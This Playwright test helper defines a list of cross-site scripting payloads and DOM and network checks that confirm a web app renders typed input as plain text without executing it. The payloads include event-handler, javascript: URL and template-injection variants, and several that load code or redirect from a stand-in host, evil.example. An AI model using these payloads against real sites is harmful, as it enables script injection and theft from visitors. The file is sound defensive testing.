import { firstNameSchema } from '#contracts/identity';
import { expect, type BrowserContext, type Page } from '@playwright/test';

const script = '<script>hit=1</script>';

/** What people type in the hope that somebody's browser obeys it; what runs says so by `hit` or a dialog. */
export const payloads: readonly string[] = [
  script,
  `">${script}`,
  `'>${script}`,
  `</title>${script}`,
  `</textarea>${script}`,
  `</script>${script}`,
  `-->${script}`,
  `]]>${script}`,
  '<ScRiPt>hit=1</sCrIpT>',
  '<scr<script>ipt>hit=1</script>',
  '<script/x>hit=1</script>',
  '<script src=data:,hit=1></script>',
  '<script src=//evil.example/x></script>',
  '<img src=x onerror=hit=1>',
  '"><img src=x onerror=hit=1>',
  '<img/src=x/onerror=hit=1>',
  '<img src="x" onerror="hit=1"//',
  '<svg onload=hit=1>',
  '"><svg/onload=hit=1>',
  `<svg>${script}`,
  '<svg><animate onbegin=hit=1 attributeName=x>',
  '<svg><a xlink:href="javascript:hit=1">x</a>',
  '<svg><use href="data:image/svg+xml,<svg/>#x">',
  '<body onload=hit=1>',
  '<input autofocus onfocus=hit=1>',
  '<select autofocus onfocus=hit=1>',
  '<details open ontoggle=hit=1>',
  '<video src=x onerror=hit=1>',
  '<audio src=x onerror=hit=1>',
  '<video><source onerror=hit=1>',
  '<marquee onstart=hit=1>',
  '<div onmouseover=hit=1 style=inset:0>',
  '" onmouseover="hit=1',
  "' autofocus onfocus='hit=1",
  '` onerror=hit=1 `',
  '<iframe src="javascript:parent.hit=1">',
  '<iframe srcdoc="<script>parent.hit=1</script>">',
  '<object data="javascript:hit=1">',
  '<embed src="javascript:hit=1">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">',
  'javascript:alert(1)',
  'javascript://%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '<form action="javascript:hit=1"><button>x',
  '<button formaction="javascript:hit=1">x',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example/>',
  '<link rel=stylesheet href=//evil.example/x>',
  '<style>*{display:none}</style>',
  "<style>@import'//evil.example/x'</style>",
  '<math><mi xlink:href="javascript:hit=1">x',
  '<noscript><p title="</noscript><img src=x onerror=hit=1>">',
  '{{constructor.constructor("hit=1")()}}',
  '${hit=1}',
  '&lt;script&gt;hit=1&lt;/script&gt;',
  '[x](javascript:hit=1)',
];

/** What may be a name: no links, so not all of them. */
export const names = payloads.filter((payload) => firstNameSchema.safeParse(payload).success);

/** All of them in texts of at most `max` characters. */
export function textsOf(max: number, each: readonly string[] = payloads): string[] {
  const texts: string[] = [];
  for (const payload of each) {
    const longer = texts.length > 0 ? `${texts.at(-1)} ${payload}` : payload;
    if (texts.length > 0 && longer.length <= max) texts[texts.length - 1] = longer;
    else texts.push(payload);
  }
  return texts;
}

/** All of them in one text, short enough for every field but those of a thousand characters. */
export const everything = payloads.join(' ');

/** Collects what a page that obeyed would do: dialogs, breaches of the policy, requests to elsewhere. */
export function watch(context: BrowserContext, baseURL: string): string[] {
  const found: string[] = [];
  const { host } = new URL(baseURL);
  context.on('dialog', (dialog) => {
    found.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  context.on('console', (message) => {
    if (/Content.Security.Policy/i.test(message.text())) found.push(message.text());
  });
  context.on('request', (request) => {
    const target = new URL(request.url());
    if (/^http/.test(target.protocol) && target.host !== host) found.push(request.url());
  });
  return found;
}

/** In the page: what ran, elements that no page of ours has, handlers in attributes, links that are programs. */
function injected(): string[] {
  const elements = /^(?:iframe|object|embed|math|marquee|base|animate|use|noframes)$/;
  const links = /^(?:(?:xlink:)?href|src|action|formaction|data|poster)$/;
  const programs = /^\s*(?:j\s*a\s*v\s*a\s*s\s*c\s*r\s*i\s*p\s*t|vbscript|data:text)/i;
  const found = 'hit' in window ? ['a program ran'] : [];
  for (const element of document.querySelectorAll('*')) {
    if (elements.test(element.localName)) found.push(element.outerHTML);
    for (const { name, value } of element.attributes)
      if (/^on|^srcdoc$/i.test(name) || (links.test(name) && programs.test(value)))
        found.push(`${name}="${value}"`);
  }
  return found;
}

/** What the page as it is now obeyed. */
export const obeyedBy = (page: Page): Promise<string[]> => page.evaluate(injected);

/** The page as it is now obeyed nothing. */
export async function expectObeyedNothing(page: Page, found: readonly string[]): Promise<void> {
  expect(await obeyedBy(page), page.url()).toEqual([]);
  expect(found, page.url()).toEqual([]);
}

/** Opens a page, sees there what was typed, letter by letter, and that nothing of it was obeyed. */
export async function expectHarmless(
  page: Page,
  path: string,
  found: readonly string[],
  ...shown: readonly string[]
): Promise<void> {
  await page.goto(path);
  await page.waitForLoadState('networkidle');
  for (const text of shown) await expect(page.locator('body'), path).toContainText(text);
  await expectObeyedNothing(page, found);
}
